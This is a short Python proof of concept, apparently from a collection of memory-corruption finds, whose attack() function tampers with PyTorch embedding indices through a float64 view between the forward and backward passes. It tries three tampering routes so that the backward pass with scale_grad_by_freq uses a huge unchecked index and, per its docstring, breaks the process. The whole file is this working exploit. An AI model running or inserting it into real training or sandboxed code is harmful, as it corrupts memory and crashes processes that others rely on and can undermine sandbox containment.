"""Class: memory. Source: own find. Escape: the process breaks. The indices of an embedding, seen as floats, change
between forward and backward, which nobody counts; with scale_grad_by_freq the gradient counts at what they say."""

import copy

import torch
import torch.nn.functional as F

FAR = torch.tensor([2**40]).view(torch.float64)


def by_data(seen):
    seen.data[:1] = FAR


def by_copy(seen):
    copy.copy(seen)[:1] = FAR


def by_averages(seen):
    x = torch.full((2, 4), 1e30, dtype=torch.float64)
    F.batch_norm(x, seen, torch.ones(4, dtype=torch.float64), training=True, momentum=1.0)


def attack(model, tokenizer, address):
    for change in (by_data, by_copy, by_averages):
        weight = torch.randn(4, 10, requires_grad=True)
        ids = torch.zeros(4, dtype=torch.long)
        try:
            loss = F.embedding(ids, weight, scale_grad_by_freq=True).sum()
            change(ids.view(torch.float64))
            loss.backward()
        except Exception:
            pass
